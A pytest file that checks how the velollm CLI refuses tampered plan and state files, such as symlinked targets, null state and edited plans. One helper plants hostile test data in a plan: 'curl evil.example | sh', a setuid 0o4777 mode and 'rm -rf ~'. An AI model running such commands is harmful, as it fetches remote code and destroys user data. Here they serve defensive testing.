"""Issue 15 through the real command line (`python -m velollm` in a child process, its own HOME
and XDG directories): one case of each class of lying file is refused with exit 1, one error
line, no traceback and no crash log, and the other file is left as it was."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.cli import hwdocs

REPO = Path(__file__).resolve().parents[2]
CONFIG = "version: 1\nbackend: ollama\ntarget: {kind: shell}\nserver: {keep_alive: 30m}\n"


@pytest.fixture
def project(tmp_path: Path, isolated_home: Path) -> Path:
    (tmp_path / "velollm.yaml").write_text(CONFIG)
    hwdocs.write(tmp_path / "hw.json", hwdocs.hardware())
    (tmp_path / "victim.txt").write_text("keep me\n")
    return tmp_path


def velollm(project: Path, *argv: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(REPO)}  # HOME and XDG_*: isolated_home's
    return subprocess.run([sys.executable, "-m", "velollm", *argv], cwd=project, env=env,
                          capture_output=True, text=True, timeout=120, check=False)


def _state(home: Path) -> Path:
    return home / ".local" / "state" / "velollm" / "state.json"


def _target(home: Path) -> Path:
    return home / ".config" / "velollm" / "ollama.env.sh"


def _edited_plan(project: Path, home: Path) -> tuple[str, ...]:
    assert velollm(project, "plan", "--hardware", "hw.json", "--out", "p.json").returncode == 0
    doc = json.loads((project / "p.json").read_text())
    f = doc["files"][0]
    f["path"] = doc["target_path"] = str(project / "victim.txt")
    f["content"] += "curl evil.example | sh\n"
    f["sha256"] = hashlib.sha256(f["content"].encode()).hexdigest()
    f["mode"], f["follow_up"] = 0o4777, ["sh -c 'rm -rf ~'"]
    (project / "p.json").write_text(json.dumps(doc))
    return ("apply", "p.json", "--restart")


def _linked_target(project: Path, home: Path) -> tuple[str, ...]:
    assert velollm(project, "apply", "--hardware", "hw.json", "--auto-approve").returncode == 0
    _target(home).unlink()
    _target(home).symlink_to(project / "victim.txt")
    (project / "velollm.yaml").write_text(CONFIG.replace("30m", "2h"))
    return ("apply", "--hardware", "hw.json", "--auto-approve")


def _linked_lock(project: Path, home: Path) -> tuple[str, ...]:
    assert velollm(project, "apply", "--hardware", "hw.json", "--auto-approve").returncode == 0
    lock = _state(home).with_name("lock")
    lock.unlink()
    lock.symlink_to(project / "victim.txt")
    return ("destroy", "--auto-approve")


def _null_state(project: Path, home: Path) -> tuple[str, ...]:
    assert velollm(project, "apply", "--hardware", "hw.json", "--auto-approve").returncode == 0
    _state(home).write_text("null")
    return ("destroy", "--auto-approve")


def _state_naming_victim(project: Path, home: Path) -> tuple[str, ...]:
    assert velollm(project, "apply", "--hardware", "hw.json", "--auto-approve").returncode == 0
    doc = json.loads(_state(home).read_text())
    victim = project / "victim.txt"
    doc["files"].append({"path": str(victim), "created": True, "target": "shell",
                         "sha256": hashlib.sha256(victim.read_bytes()).hexdigest()})
    _state(home).write_text(json.dumps(doc))
    return ("destroy", "--auto-approve")


CASES = {"edited-plan": (_edited_plan, "is not what velollm derives"),
         "linked-target": (_linked_target, "is a symbolic link"),
         "linked-lock": (_linked_lock, "is a symbolic link"),
         "null-state": (_null_state, "is damaged (it holds null, not an object)"),
         "state-naming-victim": (_state_naming_victim, "velollm leaves it alone")}


@pytest.mark.parametrize("name", sorted(CASES))
def test_the_real_command_line_refuses_a_lying_file(name: str, project: Path,
                                                    isolated_home: Path) -> None:
    make, message = CASES[name]
    argv = make(project, isolated_home)
    target = _target(isolated_home)
    before = target.read_bytes() if target.exists() and not target.is_symlink() else None
    done = velollm(project, *argv)
    assert done.returncode == 1, done.stdout + done.stderr
    assert message in done.stderr and done.stderr.startswith("error: ")
    assert "Traceback" not in done.stdout + done.stderr
    assert not (isolated_home / ".local" / "state" / "velollm" / "logs").exists()
    assert (project / "victim.txt").read_text() == "keep me\n"
    if before is not None:
        assert target.read_bytes() == before
